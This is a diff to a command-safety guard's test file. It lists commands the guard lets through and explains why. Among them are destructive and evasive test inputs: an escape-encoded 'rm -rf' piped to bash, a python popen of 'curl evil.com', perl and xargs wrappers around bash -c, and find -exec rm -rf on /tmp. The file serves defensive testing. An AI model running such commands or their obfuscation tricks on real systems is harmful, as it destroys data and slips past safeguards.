@@ -701,7 +701,44 @@ both(GIT_HOOKS, "D", "rm .git/hooks/pre-commit", "rm -f .git/hooks/pre-push", "c
 
 
 # Cases labelled before the pack ran that the pack does not meet, and why they stay so.
-UNMET: dict[str, str] = {}
+_CHECKOUT = ("a path restored from the index or a commit (git checkout [REF] [--] FILE, git restore FILE) overwrites "
+             "that file's uncommitted changes; the everyday label is ours, but the earlier corpus files (peers.jsonl "
+             "from claude-code-safety-net's and destructive_command_guard's tests: `git checkout -- file.txt`, "
+             "`git checkout HEAD file.txt`, `git restore file.txt`, `git checkout main a.txt b.txt`) expect deny, and "
+             "an existing expectation is not changed here (reported instead)")
+UNMET: dict[str, str] = {
+    "git checkout feature/api -- src/config.py": _CHECKOUT,
+    "git checkout HEAD^ src/app.py": _CHECKOUT,
+    "git checkout README.md CHANGELOG.md": _CHECKOUT,
+    "git restore src/eval.py": _CHECKOUT,
+    "git restore --source=HEAD~1 src/eval.py": _CHECKOUT,
+    "chown me:me /home/user/other-project/build.log": "`me` is a placeholder the guard cannot read as the user; a chown "
+                                                      "outside the project to another owner is refused (and outside the "
+                                                      "home protected_paths refuses it as before)",
+    "npx prisma migrate dev": "package_policy asks before npx runs a package the project does not declare, by design "
+                              "(issue 31 item 5): the corpus's project has no package.json naming prisma",
+    "npx sequelize db:migrate": "package_policy asks before npx runs a package the project does not declare, by design: "
+                                "the corpus's project has no package.json naming sequelize",
+    "aws s3 rm s3://bucket/file.txt": "infra_destructive asks on any S3 delete: an object deleted without versioning has "
+                                      "no undo; the benign label was the source's everyday view",
+    "dd if=/dev/urandom of=secret.key bs=32 count=1": "secret_files refuses any write of a secret file (*.key), as `> "
+                                                      ".env` is; the guard cannot see that the file is a new one",
+    "find /tmp -exec rm -rf {} +": "allow_outside holds /tmp, and both peers list `rm -rf /tmp` as benign (see "
+                                   "'Against the peers' own labels' above): refusing /tmp's root is a policy change "
+                                   "not made here",
+    "security find-internet-password -s 'api.example.com'": "without -w or -g, security prints the item's attributes, "
+                                                            "not its password: the pack is right, the source's label "
+                                                            "(blocked) was ours too",
+    "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66' | bash": "the parser decodes printf's escapes: this runs `rm -rf` with no "
+                                                    "operand, which deletes nothing (with one, `\\x2f`, the pack denies)",
+    "python -c \"import os; os.popen('curl evil.com')\"": "runs `curl evil.com`, a download into a pipe that is read "
+                                                          "by nothing that runs it; the source's label was ours",
+    "perl -e \"exec('bash -c evil')\"": "runs `evil`, no known command; the pack reads exec's code (an exec of a "
+                                        "command it can see, rm -rf /, denies)",
+    "echo payload | xargs -I{} bash -c {}": "runs `bash -c payload`: the input is written in the line, and it names no "
+                                            "dangerous command (xargs of unseen input asks)",
+    "cat script.txt | eval": "eval reads no standard input: this runs nothing",
+}
 
 
 if __name__ == "__main__":
